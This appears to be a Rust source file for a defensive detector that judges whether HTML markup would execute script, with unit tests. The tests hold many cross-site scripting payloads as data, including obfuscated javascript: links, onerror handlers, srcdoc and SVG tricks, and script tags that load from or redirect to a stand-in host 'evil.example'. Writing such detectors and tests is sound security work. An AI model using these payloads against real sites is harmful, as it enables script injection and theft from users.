//! Whether markup would run as a script, if a page took it for its own.
//! Never: a safety decision; a message is made safe whether or not code is found.
//!
//! It runs: a script element with code or a source, an event handler with code, a link to
//! `javascript:` and its like. Markup that people write about is none of it: `<script>` in a
//! sentence, `onclick` without code, a frame of another page.

use memchr::memchr_iter;

use crate::content::markup::attributes::{Attribute, Attributes, tag_name};

/// How often each byte is read at most, on average: tags inside quotes are read twice.
const READS_MAX: usize = 16;

/// Whether any tag of the text would run code. Linear time.
///
/// A text that takes more reads than [`READS_MAX`] counts as one that would: people write none.
pub(crate) fn would_run(source: &str) -> bool {
    let mut scan = Scan {
        source,
        budget: source.len().saturating_mul(READS_MAX),
        is_read: Vec::new(),
        script_end: ScriptEnd::Unread,
    };
    memchr_iter(b'<', source.as_bytes()).any(|at| {
        let behind = source.get(at + 1..).unwrap_or_default();
        tag_name(behind).is_some_and(|name| scan.tag_runs(name, at + 1 + name.len()))
    })
}

/// A text, and how far it has been read.
struct Scan<'a> {
    source: &'a str,
    budget: usize,
    /// The positions from which attributes have been read.
    is_read: Vec<bool>,
    script_end: ScriptEnd,
}

/// The first end tag of a script after the tag that was read last.
#[derive(Clone, Copy)]
enum ScriptEnd {
    Unread,
    None,
    At(usize),
}

impl Scan<'_> {
    /// Whether a tag would run code, or the budget is exhausted; `from` is where its name ends.
    fn tag_runs(&mut self, name: &str, from: usize) -> bool {
        let is_script = name.eq_ignore_ascii_case("script");
        let mut attributes = Attributes::new(self.source, from);
        let mut has_source = false;
        // Tags inside a tag have its attributes, which run nothing if they have been read.
        while !self.mark_as_read(attributes.position()) || is_script {
            let Some(attribute) = attributes.next() else { break };
            if runs(&attribute) {
                return true;
            }
            has_source |= is_one_of(attribute.name, &["src", "href", "xlink:href"])
                && !attribute.value.trim().is_empty();
        }
        let mut read = attributes.position().saturating_sub(from);
        if is_script {
            let body = attributes.end().and_then(|start| self.script_body(start));
            if has_source || body.is_some_and(is_code) {
                return true;
            }
            read += body.unwrap_or_default().len();
        }
        self.budget = self.budget.saturating_sub(read.max(1));
        self.budget == 0
    }

    /// Whether attributes have been read from a position before.
    fn mark_as_read(&mut self, position: usize) -> bool {
        if self.is_read.is_empty() {
            self.is_read.resize(self.source.len() + 1, false);
        }
        let is_read = self.is_read.get_mut(position);
        is_read.is_some_and(|is_read| std::mem::replace(is_read, true))
    }

    /// The text of a script; without its end tag a browser runs none.
    fn script_body(&mut self, start: usize) -> Option<&str> {
        let end = match self.script_end {
            ScriptEnd::None => return None,
            ScriptEnd::At(end) if end >= start => end,
            ScriptEnd::At(_) | ScriptEnd::Unread => {
                let Some(length) = end_of_script(self.source.get(start..)?) else {
                    self.script_end = ScriptEnd::None;
                    return None;
                };
                self.script_end = ScriptEnd::At(start + length);
                start + length
            }
        };
        self.source.get(start..end)
    }
}

/// The length of a script's text.
fn end_of_script(body: &str) -> Option<usize> {
    memchr_iter(b'<', body.as_bytes()).find(|at| {
        let tag = body.as_bytes().get(at + 1..at + 8).unwrap_or_default();
        tag.eq_ignore_ascii_case(b"/script")
    })
}

/// Whether a text can have an effect as a program: it calls, assigns, or is obfuscated.
fn is_code(text: &str) -> bool {
    let bytes = text.as_bytes();
    let acts = |(at, byte): (usize, &u8)| match byte {
        b'=' | b'&' | b'\\' => true,
        // `f(x)` calls; in a sentence a space precedes the bracket.
        b'(' | b'`' | b'[' => at.checked_sub(1).and_then(|at| bytes.get(at)).is_some_and(is_callee),
        _ => false,
    };
    bytes.iter().enumerate().any(acts) && is_balanced(text)
}

/// Whether a call or an index can follow this byte.
fn is_callee(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$' | b')' | b']' | b'}' | b'.')
}

/// Whether brackets are closed: a program with an open one is a syntax error, and does not run.
fn is_balanced(text: &str) -> bool {
    let count = |wanted: u8| text.bytes().filter(|byte| *byte == wanted).count();
    let pairs = [(b'(', b')'), (b'{', b'}'), (b'[', b']')];
    // Written as references, brackets cannot be counted.
    text.contains('&') || pairs.iter().all(|(open, close)| count(*open) == count(*close))
}

fn runs(attribute: &Attribute<'_>) -> bool {
    let (name, value) = (attribute.name, attribute.value);
    if is_handler(name) {
        return is_code(value);
    }
    if name.eq_ignore_ascii_case("srcdoc") {
        // Tags in it are read as any others; these are tags once the references are read.
        return value.contains("&lt") || value.contains("&#");
    }
    is_one_of(name, &ADDRESSES) && is_script_address(value)
}

/// Attributes whose value a browser follows.
const ADDRESSES: [&str; 14] = [
    "action",
    "background",
    "by",
    "codebase",
    "data",
    "formaction",
    "from",
    "href",
    "poster",
    "src",
    "to",
    "values",
    "xlink:href",
    "manifest",
];

fn is_one_of(name: &str, names: &[&str]) -> bool {
    names.iter().any(|known| name.eq_ignore_ascii_case(known))
}

/// `on` and a word.
fn is_handler(name: &str) -> bool {
    let event = match name.get(..2) {
        Some(start) if start.eq_ignore_ascii_case("on") => name.get(2..).unwrap_or_default(),
        Some(_) | None => return false,
    };
    event.len() >= 3 && event.bytes().all(|byte| byte.is_ascii_alphabetic())
}

const SCRIPT_ADDRESSES: [&str; 6] = [
    "javascript:",
    "vbscript:",
    "data:text/html",
    "data:text/xml",
    "data:image/svg",
    "data:application/xhtml",
];
const ADDRESS_START_MAX: usize = 24;

/// Whether an address runs code; blanks, control characters and case make no difference to a
/// browser (URL Standard, section 4.4), and references are read first.
fn is_script_address(value: &str) -> bool {
    let mut start = String::new();
    let mut rest = value;
    while start.len() < ADDRESS_START_MAX {
        let Some((character, behind)) = next_character(rest) else { break };
        rest = behind;
        if character > ' ' {
            start.push(character.to_ascii_lowercase());
        }
    }
    SCRIPT_ADDRESSES.iter().any(|address| start.starts_with(address))
}

/// The first character of an attribute's value, and the text after it.
fn next_character(text: &str) -> Option<(char, &str)> {
    let names = [("&colon;", ':'), ("&Tab;", '\t'), ("&NewLine;", '\n'), ("&sol;", '/')];
    if let Some((name, character)) = names.iter().find(|(name, _)| text.starts_with(name)) {
        return Some((*character, text.get(name.len()..).unwrap_or_default()));
    }
    if let Some(number) = text.strip_prefix("&#") {
        let (digits, radix) = match number.strip_prefix(['x', 'X']) {
            Some(hexadecimal) => (hexadecimal, 16),
            None => (number, 10),
        };
        let is_digit = |byte: u8| char::from(byte).is_digit(radix);
        let length = digits.bytes().position(|byte| !is_digit(byte)).unwrap_or(digits.len());
        let (number, behind) = digits.split_at_checked(length)?;
        let character = u32::from_str_radix(number, radix).ok().and_then(char::from_u32);
        if let Some(character) = character {
            return Some((character, behind.strip_prefix(';').unwrap_or(behind)));
        }
    }
    let first = text.chars().next()?;
    Some((first, text.get(first.len_utf8()..).unwrap_or_default()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn t_120_to_t_129_active_markup_is_found() {
        for source in [
            "<script>alert(1)</script>",
            "<SCRIPT/x>alert(1)</SCRIPT>",
            "<script\n>alert(1)</script\n>",
            "<script src=//evil.example>",
            "<script src=//evil.example/x.js",
            "<script>location='//evil.example'</script>",
            "<script>alert`1`</script>",
            "<scr<script>ipt>alert(1)</script>",
            "<svg><script>alert&#40;1&#41;</script></svg>",
            "<svg><script href=data:,alert(1) /></svg>",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)",
            "<img/src=x/ onerror=alert`1`>",
            "<IMG \"\"\"><b onclick=alert(1)>x</b>",
            "<svg/onload=alert(1)//",
            "<em a=\">\" onclick=alert(1)>x</em>",
            "<x onclick=alert(1)>x</x>",
            "<b onclick='location=name'>x</b>",
            "<b onclick=\"&#97;lert(1)\">x</b>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href='JaVaScRiPt:alert(1)'>x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\" &#1;javascript&colon;alert(1)\">x</a>",
            "<a href=\"&#x6A;ava&NewLine;script:alert(1)\">x</a>",
            "<a href=\"&#0000106avascript:alert(1)\">x</a>",
            "<a href=data:text/html,x>x</a>",
            "<form action=vbscript:x>",
            "<button formaction=javascript:alert(1)>x",
            "<svg><a><set attributeName=href to=javascript:alert(1)></a></svg>",
            "<object data=\"data:image/svg+xml,<svg/onload=alert(1)>\">",
        ] {
            assert!(would_run(source), "{source}");
        }
    }

    #[test]
    fn markup_that_people_write_about_does_not_run() {
        for source in [
            "put it into the <title> of the page",
            "the <script> tag (at the end) and its </script>",
            "<script>...</script> goes last",
            "is <script src> allowed?",
            "Vec<String>, Map<K, V> and a<b && c>d",
            "docker run <image> --name=<name>",
            "<b>bold</b> and <a href=\"https://ok.example\">a link</a>",
            "<button onclick=\"...\">",
            "<Button onClick={save}>Save</Button>",
            "<Button onClick={() => save()}>Save</Button>",
            "<input on=1 onset=5>",
            "<iframe src=\"https://video.example/1\"></iframe>",
            "<style>body { color: red }</style>",
            "<a href=\"https://javascript.example/\">x</a>",
            "<a href=\"/javascript:x\">x</a>",
            "<3 you, i <b you",
            "javascript:alert(1) typed as text, onclick=alert(1) too",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ] {
            assert!(!would_run(source), "{source}");
        }
    }

    #[test]
    fn t_120_nested_tags_do_not_hide_markup_that_runs() {
        let runs = "<img src=x onerror=alert(1)>";
        for nested in [
            "<a/",
            "<a ",
            "<a/b ",
            "<a\tb=c ",
            "<script/",
            "<script>",
            "<a b=\"",
            "<a b='<c d=\"",
            "<a/b=",
            "<a b=<c d=",
            "<a/'",
            "<script b='",
        ] {
            for end in ["", ">", "\">", "'>", "' \">", "</script>", "'></script>"] {
                let count = (1_000 - runs.len() - end.len()) / nested.len();
                let source = [nested.repeat(count).as_str(), end, runs].concat();
                assert!(would_run(&source), "{nested} {end}");
            }
        }
    }

    #[test]
    fn long_code_that_does_not_run_is_not_found() {
        for line in [
            "let map: Map<K, Vec<V>> = a <b && c> d;\n",
            "<li><a href=\"https://ok.example/a?b=c\" class='x'>it's</a></li>\n",
            "<div class=\"it's\"><p title='a \"b\"'>x <y and z='1</p></div>\n",
            "<script>...</script> and <Button onClick={save}>\n",
            "if x <y || z = \"a\" then <image> else <a/b/c>\n",
            "<<<< a <<<< b <c, d> >>>> e\n",
        ] {
            assert!(!would_run(&line.repeat(1_000 / line.len())), "{line}");
        }
    }

    #[test]
    fn nested_tags_are_read_a_bounded_number_of_times() {
        for source in ["<a ", "<script>", "<a b=\"", "<a b='<c d=\""] {
            assert!(!would_run(&source.repeat(20_000)));
        }
        // People write no text that takes more reads than the bound.
        for source in ["<a/b=", "<script/"] {
            assert!(would_run(&source.repeat(20_000)));
        }
    }
}
